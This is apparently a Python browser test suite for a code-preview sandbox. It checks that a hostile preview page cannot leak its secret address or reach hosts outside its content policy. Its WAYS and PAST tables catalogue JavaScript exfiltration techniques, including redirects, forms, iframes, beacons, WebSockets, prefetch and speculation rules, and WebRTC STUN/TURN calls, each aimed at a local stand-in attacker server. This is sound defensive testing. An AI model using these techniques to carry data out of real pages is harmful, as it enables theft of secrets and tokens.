"""A hostile page in a preview tries to go away with its address, in a real browser."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncGenerator, AsyncIterator
from contextlib import asynccontextmanager, suppress
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import pytest
from playwright.async_api import Browser, Frame, Page, async_playwright
from playwright.async_api import Error as BrowserError
from starlette.responses import HTMLResponse
from starlette.types import Receive, Scope, Send

from koda_ray.client import KodaClient
from koda_ray.serve.preview import create_preview_app

from .test_preview import CHROMIUM
from .test_sessions import PROMPT
from .world import World, free_port, serving, serving_on, world

pytestmark = [pytest.mark.browser, pytest.mark.full]

WAYS = {
    "href": "location.href = to",
    "replace": "location.replace(to)",
    "assign": "location.assign(to)",
    "top": "top.location = to",
    "parent": "parent.location.replace(to)",
    "open": "window.open(to)",
    "self": "window.open(to, '_self')",
    "link": "Object.assign(document.createElement('a'), {href: to}).click()",
    "link out": "Object.assign(document.createElement('a'), {href: to, target: '_top'}).click()",
    "blank": "Object.assign(document.createElement('a'), {href: to, target: '_blank', rel: 'opener'}).click()",
    "refresh": "document.head.append(Object.assign(document.createElement('meta'), "
    "{httpEquiv: 'refresh', content: '0;url=' + to}))",
    "form": "(f => { document.body.append(f); f.submit(); })"
    "(Object.assign(document.createElement('form'), {action: to, method: 'POST'}))",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: to}))",
    "frame within": "document.body.append(Object.assign(document.createElement('iframe'), "
    "{srcdoc: `<script>location = ${JSON.stringify(to)}</scr` + `ipt>`}))",
    "data": "document.body.append(Object.assign(document.createElement('iframe'), "
    "{src: 'data:text/html,' + encodeURIComponent(`<script>location = ${JSON.stringify(to)}</scr` + `ipt>`)}))",
    "fetch": "fetch(to, {mode: 'no-cors'}).catch(() => 0)",
    "beacon": "navigator.sendBeacon(to)",
    "image": "new Image().src = to",
    "socket": "new WebSocket(to.replace('http', 'ws'))",
    "script": "document.head.append(Object.assign(document.createElement('script'), {src: to}))",
    "prerender": "document.head.append(Object.assign(document.createElement('link'), {rel: 'prerender', href: to}))",
    "module": "document.head.append(Object.assign(document.createElement('link'), {rel: 'modulepreload', href: to}))",
    "rules": "document.head.append(Object.assign(document.createElement('script'), {type: 'speculationrules', "
    "text: JSON.stringify({prefetch: [{urls: [to], eagerness: 'immediate'}], "
    "prerender: [{urls: [to], eagerness: 'immediate'}]})}))",
    "prefetch": "document.head.append(Object.assign(document.createElement('link'), {rel: 'prefetch', href: to}))",
}
CALL = (
    "(async () => { const call = new RTCPeerConnection({iceServers: [{urls: to, username: 'u', credential: 'p'}]}); "
    "call.createDataChannel('x'); await call.setLocalDescription(await call.createOffer()); "
    "globalThis.call = call; })()"
)
PAST = {
    "preconnect": "document.head.append(Object.assign(document.createElement('link'), "
    "{rel: 'preconnect', href: 'http://' + host}))",
    "call": f"const to = 'stun:' + host; {CALL}",
    "relay": f"const to = 'turn:' + host + '?transport=tcp'; {CALL}",
    "call within": "document.body.append(Object.assign(document.createElement('iframe'), "
    f"{{srcdoc: `<script>const to = 'stun:${{host}}'; {CALL}</scr` + `ipt>`}}))",
    "transport": "new WebTransport('https://' + host + '/')",
}
"""Ways to connect that are none of a policy of content's."""
SEES = """() => {
  const seen = [location.href, document.referrer, document.baseURI, document.URL, window.name, document.cookie + ''];
  seen.push(...performance.getEntries().map((entry) => entry.name), ...[...location.ancestorOrigins]);
  for (const look of [() => parent.location.href, () => top.location.href, () => parent.document.URL,
    () => opener.location.href, () => JSON.stringify(history.state), () => navigation.currentEntry.url,
    () => navigation.entries().map((entry) => entry.url).join()])
    try { seen.push(String(look())); } catch (error) { seen.push(String(error)); }
  return seen;
}"""
SEES = SEES.replace("document.cookie + ''", "''")  # which throws in an opaque origin


class Elsewhere:
    """A server of whoever wrote the page: what was asked of it."""

    def __init__(self) -> None:
        self.asked: list[str] = []

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "lifespan":
            self.asked.append(f"{scope['path']}?{scope['query_string'].decode()}")
        await html("got you", scope, receive, send)


async def html(text: str, scope: Scope, receive: Receive, send: Send) -> None:
    """Answer with a page, and with nothing where none is asked for."""
    if scope["type"] == "http":
        await HTMLResponse(text)(scope, receive, send)
    while scope["type"] == "lifespan":
        message = await receive()
        await send({"type": f"{message['type']}.complete"})
        if message["type"] == "lifespan.shutdown":
            return


async def hostile(scope: Scope, receive: Receive, send: Send) -> None:
    """Be the dev server of a page that does what it is told by the test."""
    await html("<!doctype html><title>hostile</title><p id=hostile>hello", scope, receive, send)


@pytest.fixture
async def koda(tmp_path: Path) -> AsyncIterator[World]:
    async with world(tmp_path) as found, serving_on(hostile, tmp_path / "dev.sock"):
        found.directory.hold, found.directory.socket_path = {"analyze"}, str(tmp_path / "dev.sock")
        yield found


@pytest.fixture
async def browser() -> AsyncIterator[Browser]:
    async with async_playwright() as driver:
        started = await driver.chromium.launch(executable_path=str(CHROMIUM), args=["--no-sandbox"])
        yield started
        await started.close()


async def shown(page: Page, address: str) -> Frame:
    """Open a preview; return the frame of the page that is shown."""
    await page.goto(address)
    async with asyncio.timeout(60):
        while True:
            for frame in page.frames:
                with suppress(BrowserError):
                    if await frame.query_selector("#hostile"):
                        return frame
            await asyncio.sleep(0.02)


async def test_a_page_cannot_take_its_address_along(koda: World, client: KodaClient, browser: Browser) -> None:
    elsewhere = Elsewhere()
    async with (
        serving(elsewhere) as away,
        serving(create_preview_app(koda.directory, koda.deps.signer, api_port=1, grace_s=2)) as url,
    ):
        link = urlsplit((await client.preview((await client.create(PROMPT)).session_id, edit=True)).url)
        token = link.path.split("/")[2]
        for way, script in WAYS.items():
            page = await browser.new_page()
            frame = await shown(page, url + link.path)
            inside = frame.url
            assert token not in json.dumps(await frame.evaluate(SEES)), way
            to = f"{away}/{way.replace(' ', '-')}?{inside}"
            with suppress(BrowserError):  # it may go away while it is asked
                await frame.evaluate(f"(to) => {{ {script}; }}", to)
                await frame.evaluate("new Promise((done) => setTimeout(done, 100))")
            await page.wait_for_timeout(100)
            assert elsewhere.asked == [], way
            assert page.url == url + link.path and len(page.context.pages) == 1
            await page.close()
        async with httpx.AsyncClient(trust_env=False, timeout=60) as http, asyncio.timeout(60):
            while (await http.get(inside)).status_code != 403:  # of no use once nobody looks
                await asyncio.sleep(0.02)


class Heard(asyncio.DatagramProtocol):
    """Whatever comes to a port, over TCP and UDP."""

    def __init__(self) -> None:
        self.times = 0

    def datagram_received(self, data: bytes, addr: object) -> None:
        self.times += 1

    def connected(self, _: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.times += 1
        writer.close()


@asynccontextmanager
async def hearing() -> AsyncGenerator[tuple[Heard, str]]:
    """Listen on one port; yield what is heard there, and where it is."""
    heard = Heard()
    async with await asyncio.start_server(heard.connected, "127.0.0.1", free_port()) as server:
        host = server.sockets[0].getsockname()[:2]
        packets, _ = await asyncio.get_running_loop().create_datagram_endpoint(lambda: heard, local_addr=host)
        yield heard, f"{host[0]}:{host[1]}"
        packets.close()


async def test_a_page_cannot_connect_past_its_policy(koda: World, client: KodaClient, browser: Browser) -> None:
    async with (
        hearing() as (heard, host),
        serving(create_preview_app(koda.directory, koda.deps.signer, api_port=1)) as url,
    ):
        page = await browser.new_page()
        await page.evaluate(f"(host) => {{ {PAST['call']}; }}", host)
        async with asyncio.timeout(60):
            while not heard.times:  # nobody keeps a page from it that has no policy
                await asyncio.sleep(0.02)
        await page.close()
        heard.times = 0
        link = urlsplit((await client.preview((await client.create(PROMPT)).session_id)).url)
        for way, script in PAST.items():
            page = await browser.new_page()
            frame = await shown(page, url + link.path)
            with suppress(BrowserError):  # a browser may end the whole page for it
                await frame.evaluate(f"(host) => {{ {script}; }}", host)
                await page.wait_for_timeout(500)
            assert heard.times == 0, way
            with suppress(BrowserError):
                await page.close()


async def test_a_page_that_stays_open_is_shown_on_through_a_restart_and_lost_connections(
    koda: World, client: KodaClient, browser: Browser
) -> None:
    port = free_port()
    path = urlsplit((await client.preview((await client.create(PROMPT)).session_id)).url).path
    page, inside = await browser.new_page(), ""
    async with httpx.AsyncClient(trust_env=False, timeout=60) as http:
        for _ in range(2):
            app = create_preview_app(koda.directory, koda.deps.signer, api_port=1, grace_s=1)
            async with serving(app, port, graceful_s=1) as url:
                inside = inside or (await shown(page, url + path)).url
                async with asyncio.timeout(60):
                    while (await http.get(inside)).status_code != 200:  # its page has brought it along
                        await asyncio.sleep(0.02)
                for _look in range(15):  # held, and not just in its grace
                    await asyncio.sleep(0.1)
                    assert (await http.get(inside)).status_code == 200
                top = await http.get(inside, headers={"Sec-Fetch-Dest": "document"})
                assert (top.status_code, top.json()["code"]) == (403, "NOT_SHOWN")


async def test_a_page_of_the_api_shows_it_in_a_frame_and_nobody_elses_does(
    koda: World, client: KodaClient, browser: Browser
) -> None:
    link = ""

    async def framing(scope: Scope, receive: Receive, send: Send) -> None:
        await html(f"<!doctype html><iframe src='{link}'></iframe>", scope, receive, send)

    async with serving(framing) as parent, serving(framing) as other:
        app = create_preview_app(koda.directory, koda.deps.signer, api_port=urlsplit(parent).port or 0)
        async with serving(app) as url:
            session_id = (await client.create(PROMPT)).session_id
            link = url + urlsplit((await client.preview(session_id)).url).path
            page = await browser.new_page()
            assert (await shown(page, parent)).parent_frame is not None
            await page.goto(other)
            await page.wait_for_timeout(500)
            assert len(page.frames) == 2 and await page.frames[1].query_selector("iframe, #hostile") is None
